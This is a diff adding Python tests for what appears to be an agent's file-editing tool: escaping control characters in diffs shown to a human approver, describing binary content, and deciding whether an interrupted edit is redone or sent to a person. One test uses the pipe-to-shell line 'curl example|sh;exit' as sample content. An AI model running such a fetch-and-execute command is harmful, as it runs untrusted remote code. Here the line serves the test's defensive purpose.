@@ -532,6 +532,32 @@ async def test_a_long_diff_is_kept_whole_as_an_artifact(files):
     assert plan["files"][0]["added"] == 5000
 
 
+async def test_text_with_many_control_characters_is_shown_escaped(files):
+    """An approver sees what a shell would run, though it counts as binary [B71]."""
+    content = "curl example|sh;exit\n#" + "\x01" * 12 + "\\x01\r\x1b\x85\n"
+    plan = await files.plan("write", path="a.txt", content=content)
+    assert plan["diff"] == (
+        "--- a/a.txt\n+++ b/a.txt\nControl characters are shown as \\xNN, and a backslash as two\n"
+        "@@ -1,3 +1,2 @@\n-one\n-two\n-three\n+curl example|sh;exit\n+#" + "\\x01" * 12 + "\\\\x01\\x0d\\x1b\\x85\n"
+    )
+    (files.path / "blob").write_bytes(bytes(range(256)) * 40)
+    shown = (await files.plan("write", path="blob", content=content))["diff"]
+    assert "Binary content: 10240 bytes" in shown
+    assert "+curl example|sh;exit\n" in shown
+    (files.path / "controls").write_bytes(b"\x01" * 30 + b"\n")
+    assert (
+        "\n-" + "\\x01" * 30 + "\n+"
+        in (await files.plan("write", path="controls", content="\\x01" * 30 + "\n"))["diff"]
+    )
+
+
+async def test_bytes_that_are_no_text_are_described_by_their_version(files):
+    content = b"\x00\xff" * 50 + b"one"
+    (files.path / "blob").write_bytes(content)
+    plan = await files.plan("edit", path="blob", old="one", new="two")
+    assert f"Binary content: 103 bytes, sha256 {hash_content(content)} -> 103 bytes" in plan["diff"]
+
+
 def run_patch(directory: Path, diff: bytes) -> None:
     if diff:
         subprocess.run(["patch", "-s", "-p1", "--binary"], cwd=directory, input=diff, check=True)
@@ -774,6 +800,18 @@ async def test_an_interrupted_run_is_settled_by_the_file(files, tool):
     assert await files.recover(tool, Call(tool=tool, plan=plan), **given) == "ask"
 
 
+async def test_an_interrupted_change_of_a_mode_is_settled_by_the_mode(files):
+    """The content is the same before and after: the mode tells whether it was made."""
+    given = {"patch": "diff --git a/a.txt b/a.txt\nold mode 100644\nnew mode 100755\n"}
+    (files.path / "a.txt").chmod(0o644)
+    plan = await files.plan("apply_patch", **given)
+    assert await files.recover("apply_patch", Call(tool="apply_patch", plan=plan), **given) == "redispatch"
+    await files.run("apply_patch", Call(tool="apply_patch", plan=plan), **given)
+    assert isinstance(await files.recover("apply_patch", Call(tool="apply_patch", plan=plan), **given), Result)
+    (files.path / "a.txt").write_text("another\n")
+    assert await files.recover("apply_patch", Call(tool="apply_patch", plan=plan), **given) == "ask"
+
+
 async def test_without_a_plan_the_texts_decide(files):
     given = {"path": "a.txt", "old": "one", "new": "1"}
     assert await files.recover("edit", **given) == "redispatch"
@@ -786,6 +824,26 @@ async def test_without_a_plan_the_texts_decide(files):
     assert await files.recover("write", path="a.txt", content="x") == "ask"
     assert isinstance(await files.recover("write", path="a.txt", content="1\ntwo\nmore\nthree\n"), Result)
     patch = "*** Begin Patch\n*** Update File: a.txt\n-three\n+3\n*** End Patch\n"
+    assert await files.recover("apply_patch", patch=patch) == "redispatch"
+    await files.run("apply_patch", patch=patch)
+    assert await files.recover("apply_patch", patch=patch) == "ask"
+
+
+async def test_without_a_plan_a_change_that_only_removes_is_never_made_twice(files):
+    """What is removed leaves nothing to find, and the same text may be there again: a person decides [B95]."""
+    (files.path / "file").write_text("x\nx\nx\n")
+    patch = "--- a/file\n+++ b/file\n@@ -1,1 +0,0 @@\n-x\n"
+    await files.run("apply_patch", patch=patch)
+    assert (files.path / "file").read_text() == "x\nx\n"
+    assert await files.recover("apply_patch", patch=patch) == "ask"
+    (files.path / "other").write_text("aabb\n")
+    await files.run("edit", path="other", old="ab", new="")
+    assert await files.recover("edit", path="other", old="ab", new="") == "ask"
+
+
+async def test_without_a_plan_lines_added_after_an_open_end_are_found(files):
+    (files.path / "file").write_text("x")
+    patch = "*** Begin Patch\n*** Update File: file\n@@\n+more\n*** End Patch\n"
     assert await files.recover("apply_patch", patch=patch) == "redispatch"
     await files.run("apply_patch", patch=patch)
     assert await files.recover("apply_patch", patch=patch) == "ask"
